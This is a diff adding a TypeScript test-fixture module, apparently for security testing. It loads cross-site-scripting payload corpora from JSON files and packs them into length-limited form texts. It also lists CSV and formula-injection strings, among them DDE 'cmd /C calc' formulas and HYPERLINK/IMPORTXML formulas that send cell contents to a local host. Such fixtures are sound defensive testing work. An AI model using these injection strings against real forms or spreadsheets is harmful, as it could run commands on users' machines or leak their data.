@@ -1,0 +1,68 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+
+/** Markup and script that was written to run where it should not; corpora/README.md says where it comes from. */
+export type Payload = { source: string; text: string };
+
+const folder = path.resolve(import.meta.dirname, '../corpora/xss');
+
+/** All payloads, those of one source after those of another. */
+export const payloads = (): Payload[] =>
+  readdirSync(folder)
+    .sort()
+    .flatMap(file =>
+      (JSON.parse(readFileSync(path.join(folder, file), 'utf8')) as string[]).map(text => ({
+        source: path.basename(file, '.json'),
+        text,
+      })),
+    );
+
+/** What a spreadsheet would calculate, or hand to another program (OWASP, CSV injection). */
+export const formulas = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://127.0.0.1:1/?x="&A1,"click")',
+  '=IMPORTXML(CONCAT("http://127.0.0.1:1/",A1),"//a")',
+  '=DDE("cmd";"/C calc";"x")',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '"=1+1',
+  "'=1+1",
+  ';=1+1',
+  '＝1+1',
+  '＠SUM(1)',
+  'a\n=1+1',
+  'a;=1+1',
+  '","=1+1',
+];
+
+/**
+ * Payloads one after another in texts of at most so many characters; a longer payload is cut off. Line ends are those that
+ * a form sends.
+ */
+export function packed(texts: string[], most: number): string[] {
+  const packs: string[] = [];
+  for (const text of texts
+    .map(one =>
+      one
+        .trim()
+        .replace(/\r\n|\r|\n/g, '\r\n')
+        .slice(0, most)
+        .trim(),
+    )
+    .filter(Boolean)) {
+    const last = packs.at(-1);
+    if (last !== undefined && last.length + 1 + text.length <= most) packs[packs.length - 1] = `${last} ${text}`;
+    else packs.push(text);
+  }
+  return packs;
+}
+
+/** Groups of so many. */
+export const groups = <T>(list: T[], size: number): T[][] =>
+  Array.from({ length: Math.ceil(list.length / size) }, (_, index) => list.slice(index * size, (index + 1) * size));
